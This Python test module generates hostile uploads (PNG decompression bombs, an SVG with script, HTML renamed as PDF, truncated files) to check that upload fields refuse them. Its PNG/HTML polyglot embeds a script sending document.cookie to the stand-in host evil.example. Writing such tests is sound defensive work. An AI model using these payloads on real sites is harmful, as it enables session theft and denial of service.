"""A corpus of hostile uploads, generated here (no binary fixtures): what each upload field must refuse."""

import io
import struct
import zlib

from PIL import Image

from tests.library.factories import pdf_bytes


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_bomb(side: int) -> bytes:
    """A real PNG of side × side black pixels (1 bit each): a few kilobytes that decode to a huge image."""
    row = b"\x00" + b"\x00" * ((side + 7) // 8)  # filter byte, then the row's bits
    compressor = zlib.compressobj(9)
    body = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)  # 1-bit greyscale
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", body)
        + _png_chunk(b"IEND", b"")
    )


def _image(format_: str, size=(64, 48)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "teal").save(buffer, format=format_)
    return buffer.getvalue()


def polyglot_png_html() -> bytes:
    """A PNG that a browser sniffing the content would also run as HTML."""
    script = b"<html><body><script>document.location='https://evil.example/?'+document.cookie</script></body></html>"
    png = _image("PNG")
    # In an ancillary text chunk (kept by lax decoders) and after IEND.
    return png[:-12] + _png_chunk(b"tEXt", b"Comment\x00" + script) + png[-12:] + script


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>"
    )


def html_as_pdf() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(1)</script><p>%PDF-1.7</p></body></html>"


def oversize_png(megabytes: float) -> bytes:
    """A valid PNG padded past the size limit."""
    return _image("PNG") + b"\x00" * int(megabytes * 1024 * 1024)


def truncated_jpeg() -> bytes:
    data = _image("JPEG", size=(400, 300))
    return data[: len(data) // 2]


def truncated_pdf() -> bytes:
    data = pdf_bytes(pages=4)
    return data[: int(len(data) * 0.6)]


# name -> (file name as sent, content type the browser claims, bytes); built once, lazily.
def corpus(*, oversize_mb: float) -> dict[str, tuple[str, str, bytes]]:
    return {
        "bomb-400-megapixels": ("bomb.png", "image/png", png_bomb(20_000)),
        "bomb-49-megapixels": ("bomb-small.png", "image/png", png_bomb(7_000)),
        "polyglot-png-html": ("photo.png", "image/png", polyglot_png_html()),
        "svg-with-script": ("logo.svg", "image/svg+xml", svg_with_script()),
        "html-renamed-pdf": ("rapport.pdf", "application/pdf", html_as_pdf()),
        "oversize": ("grande.png", "image/png", oversize_png(oversize_mb)),
        "truncated-jpeg": ("photo.jpg", "image/jpeg", truncated_jpeg()),
        "truncated-pdf": ("rapport-coupe.pdf", "application/pdf", truncated_pdf()),
    }


CASES = [
    "bomb-400-megapixels",
    "bomb-49-megapixels",
    "polyglot-png-html",
    "svg-with-script",
    "html-renamed-pdf",
    "oversize",
    "truncated-jpeg",
    "truncated-pdf",
]
